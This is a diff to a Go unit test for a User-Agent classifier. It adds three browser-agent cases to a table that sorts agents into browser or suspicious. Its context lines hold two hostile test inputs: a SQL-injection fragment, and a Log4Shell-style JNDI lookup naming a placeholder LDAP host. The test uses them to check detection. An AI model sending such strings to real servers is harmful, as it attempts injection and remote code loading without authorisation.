@@ -182,6 +182,9 @@ func TestClassifyAgent(t *testing.T) {
 		{"Mozilla/5.0 (compatible; MSIE 12.0; Windows NT 10.0; Trident/8.0)", Suspicious, "IE"},
 		{"Mozilla/5.0 (Linux; Android 12; Pixel 6) (compatible; MSIE 10.0; Trident/6.0)", Suspicious, "IE"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", Suspicious, "Mozilla"},
+		{"Mozilla/5.0 Gecko/20100115 Firefox/3.6", Suspicious, "Firefox"}, // no system: the elastic log's updater polling one file
+		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", Suspicious, "Chrome"},
+		{"Mozilla/5.0 CK={} (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", Browser, "IE"}, // a toolbar's mark, the system after it
 		{"Anonymous, " + chromeWin, Suspicious, "Chrome"},
 		{chromeWin + "'+(select 1)+'", Suspicious, "Chrome"},
 		{chromeWin + " ${jndi:ldap://x.example/a}", Suspicious, "Chrome"},
